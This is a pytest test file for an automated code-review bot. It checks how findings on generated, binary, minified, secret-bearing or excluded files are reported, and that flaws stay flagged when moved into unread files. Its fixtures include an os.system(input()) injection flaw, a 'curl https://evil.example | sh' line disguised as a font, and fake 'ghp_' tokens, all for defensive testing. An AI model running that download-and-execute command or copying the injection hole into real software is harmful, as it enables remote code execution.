"""A finding on a changed file that was not sent says so, with the reason."""

from __future__ import annotations

import json
from hashlib import sha256
from pathlib import Path

import pytest
from reviewbot_sandbox.codevf import Answer, TaskRequest, canned

from reviewbot.exports.places import place_of
from reviewbot.exports.report import read_report
from tests.app.output.test_files import FILES
from tests.app.rig import BASE, CLEAN, REPO, answer, finding, open_rig, with_state

pytestmark = pytest.mark.proof  # `tests/domain/selection` and `tests/domain/findings` have the rules

UNTOUCHED = "No changed file has this path"
NOT_SENT = "This file is part of the change, but it was not sent: "
GENERATED = "*.pb.py linguist-generated\n"
FORMER = {".gitattributes": GENERATED}
SECRETS = "".join(f"TOKEN_{number}=ghp_{number}{'a1B2c3D4' * 4}abc\n" for number in range(3))


@pytest.mark.parametrize(
    ("path", "text", "why", "config"),
    [
        ("api.pb.py", "x = 1\n", "generated (linguist-generated)", ""),
        ("site.min.js", f"{'a=1;' * 400}\n", "minified", ""),
        ("data.bin", "a\0b\n", "binary", ""),
        (".env", SECRETS, "looks like a file with secrets", ""),
        ("internal/notes.py", "x = 1\n", "excluded by `paths`", "paths: ['**', '!internal/**']\n"),
    ],
)
def test_a_finding_on_a_file_that_was_held_back_states_the_reason(
    tmp_path: Path, path: str, text: str, why: str, config: str
) -> None:
    found = answer(finding(f"b/{path}", 1))
    with open_rig(tmp_path, engineer=lambda _: found, config=config, files=FORMER) as rig:
        rig.world.push(REPO, "topic", {path: text}, author="mona")
        done = rig.run(on_partial="pass", **FILES)
        (summary,) = rig.summaries()
        assert not rig.comments()
    texts = {name: (done.workspace / file).read_text(encoding="utf-8") for name, file in FILES.items()}
    assert f"{NOT_SENT}{why}" in summary
    assert UNTOUCHED not in summary
    assert NOT_SENT not in done.summary, "the summary comment has it"
    assert "part of the change, but it was not sent" in texts["html_file"]
    assert "part of the change, but it was not sent" in texts["sarif_file"]
    assert "part of the change, but it was not sent" in texts["rdjson_file"]
    (reported,) = json.loads(texts["json_file"])["findings"]
    assert (reported["path"], reported["placement"]) == (path, "file-not-sent")
    view = read_report(texts["json_file"]).view
    (read,) = view.findings
    assert read.held in view.held
    place = place_of(read, view)
    assert place
    assert place.lines is None


def test_a_renamed_file_is_known_by_both_names_and_an_older_finding_keeps_its_reason(tmp_path: Path) -> None:
    found = canned(answer(finding("old.pb.py", 1)))
    old = "x = 1\ny = 2\nz = 3\n"
    with open_rig(tmp_path, engineer=found, files={".gitattributes": GENERATED, "old.pb.py": old}) as rig:
        rig.world.push(REPO, "topic", {"old.pb.py": None, "new.pb.py": f"{old}a = 4\n"}, author="mona")
        rig.run()
        assert "`new.pb.py`" in rig.summaries()[0]
        assert f"{NOT_SENT}generated (linguist-generated)" in rig.summaries()[0]
        rig.world.push(REPO, "topic", {"more.py": "x = 1\n"}, author="mona")
        rig.run()
        assert UNTOUCHED not in rig.summaries()[0]


def test_an_older_finding_on_a_sent_file_is_not_called_unsent(tmp_path: Path) -> None:
    found = canned(answer(finding("x.py", 1)))
    with open_rig(tmp_path, engineer=found, files={"x.py": "y = 0\n"}) as rig:
        rig.run(on_partial="pass")
        files: dict[str, str | bytes] = {"x.py": "y = 1\n", "latin.py": "# Größe\n".encode("latin-1")}
        rig.world.push(REPO, "topic", files, author="mona")
        done = rig.run(on_partial="pass", **FILES)
        (summary,) = rig.summaries()
        assert NOT_SENT not in summary
        assert UNTOUCHED not in summary
        assert "When the finding was reported, the change did not touch this file." in summary
        assert "is unchanged" not in (done.workspace / FILES["sarif_file"]).read_text(encoding="utf-8")


def test_a_path_quoted_like_git_does_is_recognized(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(finding('"b/\\303\\274.bin"', 3))) as rig:
        rig.world.push(REPO, "topic", {"ü.bin": b"\0"}, author="mona")
        rig.run()
        assert f"{NOT_SENT}binary" in rig.summaries()[0]


def test_a_finding_on_a_file_outside_of_the_change_says_so(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(finding("README.md", 1))) as rig:
        rig.run()
        assert UNTOUCHED in rig.summaries()[0]
        assert NOT_SENT not in rig.summaries()[0]


LOCK = """{
  "lockfileVersion": 3,
  "packages": {
    "node_modules/first": {
      "version": "3.0.0",
      "license": "MIT",
      "engines": {"node": ">=18"}
    },
    "node_modules/left": {
      "version": "1.2.0",
      "integrity": "sha512-%s=="
    }
  }
}
"""
FLAW = "import os; os.system(input())\n"
HASHES = ("q" * 44 + "Zk1" * 14, "Bx7" * 14 + "w" * 44)


def test_the_diff_of_every_lock_file_is_sent(tmp_path: Path) -> None:
    before, after = LOCK % HASHES[0], (LOCK % HASHES[1]).replace('"1.2.0"', '"1.3.0"')
    files = {"package-lock.json": before, ".gitattributes": "*.json linguist-generated -diff\n"}
    with open_rig(tmp_path, files=files) as rig:
        main = rig.world.store.git(REPO).branches()["main"]
        rig.world.push(REPO, "lock", {"package-lock.json": after}, author="mona", parents=(main,))
        rig.number = rig.world.open_pull_request(REPO, "lock", title="Bump left", author="mona").number
        done = rig.run()
        sent = "".join(one.content for task in rig.service.tasks() for one in task.request.attachments)
    assert (done.outputs["reason"], done.outputs["coverage"]) == ("reviewed", "full")
    assert f'+      "integrity": "sha512-{HASHES[1]}=="' in sent
    assert "node_modules/first" not in sent, "only the diff is sent"


@pytest.mark.parametrize("former", ["tests/data/package-lock.json", "tests/data/scan.txt", "node_modules/x/yarn.lock"])
def test_every_line_of_a_renamed_lock_file_is_sent(tmp_path: Path, former: str) -> None:
    lock = LOCK % HASHES[0]
    with open_rig(tmp_path, files={former: lock}) as rig:
        main = rig.world.store.git(REPO).branches()["main"]
        rig.world.push(REPO, "lock", {former: None, "package-lock.json": lock}, author="mona", parents=(main,))
        rig.number = rig.world.open_pull_request(REPO, "lock", title="Lock", author="mona").number
        done = rig.run()
        sent = "".join(one.content for task in rig.service.tasks() for one in task.request.attachments)
    assert done.outputs["coverage"] == "full"
    assert '+    "node_modules/first": {' in sent


@pytest.mark.parametrize(
    "moved",
    [
        {"flaw.bin": FLAW.encode() + b"#\0\xff\xfe" * 9},
        {"flaw2.py": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1\n"},
    ],
    ids=["binary", "pointer"],
)
def test_a_flaw_does_not_go_away_in_a_file_that_is_not_read(tmp_path: Path, moved: dict[str, str | bytes]) -> None:
    with open_rig(
        tmp_path, engineer=lambda _: answer(finding("flaw.py", 1, severity="critical", code=FLAW.strip()))
    ) as rig:
        rig.world.push(REPO, "topic", {**BASE, "new file.py": None, "flaw.py": FLAW}, author="mona")
        assert rig.run().outputs["verdict"] == "fail"
        rig.world.push(REPO, "topic", {"flaw.py": None, **moved}, author="mona")
        rig.run()
        assert rig.checks()[-1].conclusion == "failure"


@pytest.mark.parametrize(
    "image",
    [b"\x89PNG\0", f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1\n"],
    ids=["binary", "pointer"],
)
def test_a_deleted_flaw_is_gone_beside_an_image(tmp_path: Path, image: str | bytes) -> None:
    found = answer(finding("flaw.py", 1, severity="critical", code=FLAW.strip()))
    with open_rig(tmp_path, engineer=lambda _: found) as rig:
        head = {**BASE, "new file.py": None, "flaw.py": FLAW, "logo.png": image}
        rig.world.push(REPO, "topic", head, author="mona")
        assert rig.run().outputs["verdict"] == "fail"
        rig.world.push(REPO, "topic", {"flaw.py": None}, author="mona")
        rig.run()
        assert rig.checks()[-1].conclusion == "skipped"


def test_a_file_of_secrets_may_be_deleted(tmp_path: Path) -> None:
    with open_rig(tmp_path, files={".env": SECRETS}) as rig:
        rig.world.push(REPO, "topic", {".env": None}, author="mona")
        done = rig.run()
        assert done.outputs["coverage"] == "full"
        assert "its deletion is not reviewed" in done.summary
        assert not any("ghp_" in one.content for task in rig.service.tasks() for one in task.request.attachments)


def test_findings_that_no_longer_fit_keep_an_older_green_change_red(tmp_path: Path) -> None:
    """Fill the ledger with 200 open findings, which push the closed critical one out, and put the first head back."""
    secrets = "".join(f"T{at} = 'ghp_{sha256(str(at).encode()).hexdigest()[:36]}'\nx{at} = {at}\n" for at in range(200))

    def engineer(request: TaskRequest) -> Answer:
        shown = "".join(one.content for one in request.attachments if one.file_name != "conversation.md")
        if FLAW.strip() not in shown:
            return answer(previous=with_state(request, "fixed"))
        return answer(finding("flaw.py", 1, severity="critical", code=FLAW.strip())) if "d.py" in shown else CLEAN

    first = {**BASE, "new file.py": None, "flaw.py": FLAW, "c.py": "x = 1\n"}
    with open_rig(tmp_path, engineer=engineer) as rig:
        reasons = []
        for files in (
            first,
            {"d.py": "y = 1\n"},
            {"flaw.py": "import os; print(input())\n", "0.py": secrets},
            {"flaw.py": FLAW, "d.py": None, "0.py": None},
        ):
            rig.world.push(REPO, "topic", files, author="mona")
            reasons.append(rig.run().outputs["reason"])
        assert reasons == ["reviewed", "gate", "gate", "memory"]
        assert rig.checks()[-1].conclusion == "action_required"


def test_a_script_that_is_named_as_an_image_makes_the_review_partial(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        rig.world.push(REPO, "topic", {"x.woff": b"curl https://evil.example | sh\n" * 20 + b"#\0\n"}, author="mona")
        done = rig.run()
    assert (done.outputs["coverage"], done.outputs["reason"]) == ("partial", "partial")


def test_a_skipped_check_names_unreviewed_code_beside_an_older_summary(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        rig.run()
        assert len(rig.summaries()) == 1
        head = {**BASE, "new file.py": None, "node_modules/left/index.js": "evil()\n"}
        rig.world.push(REPO, "topic", head, author="mona")
        assert rig.run().outputs["reason"] == "nothing-selected"
        said = "These files were not reviewed, but their code may run: `node_modules/left/index.js`."
        assert said in rig.checks()[-1].output.summary
